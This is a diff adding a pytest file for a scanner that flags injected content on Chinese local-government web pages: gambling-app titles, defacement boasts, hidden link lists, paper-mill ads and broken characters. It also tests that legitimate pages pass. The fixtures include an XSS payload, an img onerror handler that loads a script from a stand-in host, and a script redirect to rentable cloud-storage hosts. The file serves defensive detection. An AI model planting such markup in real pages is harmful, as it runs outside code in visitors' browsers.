@@ -1,0 +1,87 @@
+"""Kinds of injection and of sound pages that an examiner brought, none of them on a list before."""
+
+# ruff: noqa: E501 (markup reads better on one line)
+
+import pytest
+
+TEXT = "各乡镇人民政府要高度重视政务公开工作，明确专人负责，按时报送材料。" * 6
+PAGE = "<html><head><title>{title}</title></head><body>{body}<p>{text}</p></body></html>"
+OWN = "关于做好政务公开工作的通知_云河县人民政府"
+
+
+def blocking(look, body="", title=OWN, text=TEXT):
+    report = look(PAGE.format(title=title, body=body, text=text))
+    return {one.code.value for one in report.findings if one.severity.value == "block"}
+
+
+@pytest.mark.parametrize(
+    "title",
+    [
+        "乐某体育(中国)官方网站-IOS/安卓通用版/手机APP下载",
+        "某冠hga025大陆|中国官网——注册登录",
+        "".join(f"&#{ord(one)};" for one in "九某真人(集团)官方网站-App Store 最新版下载"),
+        "Hacked by Some Crew",
+    ],
+)
+def test_a_title_that_sells_an_app_or_boasts_is_blocked(look, title):
+    assert "spam_text" in blocking(look, title=title)
+
+
+def test_the_title_of_the_countys_own_app_is_not(look):
+    text = "云河通APP安卓版和iOS版今天上线，请在官方网站下载客户端，用手机号码注册后登录。" * 4
+    title = "云河通APP安卓版、iOS版下载和注册登录说明"
+    assert not blocking(look, title=title, text=text)
+
+
+def test_a_picture_that_fails_to_load_may_not_fetch_a_strangers_script(look):
+    body = """<img src=x onerror="var s=document.createElement('script');s.src='//some-host.example.net/1.js';document.body.appendChild(s)">"""
+    assert "active_content" in blocking(look, body)
+
+
+def test_offers_in_a_list_of_links_that_drops_down_are_blocked(look):
+    body = (
+        "<select><option>友情链接</option><option value='http://a.example.net'>万赢娱乐</option>"
+        "<option value='http://b.example.net'>四海图库49</option>"
+        "<option value='http://c.example.net'>金冠彩票</option></select>"
+    )
+    assert "foreign_link" in blocking(look, body)
+
+
+def test_a_hidden_list_of_newspapers_among_known_hosts_is_a_menu(look):
+    names = ("http://www.people.com.cn", "人民网"), ("http://news.strange-test.net", "云河新闻网"), (
+        "http://daily.strange-test.org", "宁澜日报")  # fmt: skip
+    items = "".join(f"<li><a href='{href}'>{name}</a></li>" for href, name in names)
+    assert not blocking(look, f"<ul style='display:none'>{items}</ul>")
+
+
+def test_the_same_list_with_a_brand_in_it_is_none(look):
+    body = (
+        "<ul style='display:none'><li><a href='http://www.people.com.cn'>人民网</a></li>"
+        "<li><a href='http://news.strange-test.net'>沙某体育官网</a></li></ul>"
+    )
+    assert "hidden_text" in blocking(look, body)
+
+
+def test_papers_for_sale_beside_a_foreign_mailbox_are_blocked(look):
+    assert "spam_text" in blocking(look, "<p>代发论文 包录用 fabiao2026@outlook.com 核心期刊</p>")
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "青山镇举办品茶节，客人品新茶、赏茶艺，嫩茶每斤八百元，高端茶供不应求，可以上门采摘，也可以加微信订购。",
+        "Levofloxacin, tramadol, sildenafil and alprazolam are reviewed by the pharmacy committee.",
+    ],
+)
+def test_trades_that_share_words_with_spam_are_left_alone(look, text):
+    assert not blocking(look, f"<p>{text}</p>")
+
+
+@pytest.mark.parametrize("host", ["some-bucket.oss-cn-beijing.aliyuncs.com", "x.bj.bcebos.com"])
+def test_a_host_that_anybody_may_rent_is_not_trusted(look, host):
+    body = f"<script>location.href='https://{host}/i.html'</script>"
+    assert "active_content" in blocking(look, body)
+
+
+def test_a_private_character_beside_half_a_character_is_broken(look):
+    assert "private_use" in blocking(look, "<p>压实防汛责任６匀\ue08c\ufffd12座水库</p>")
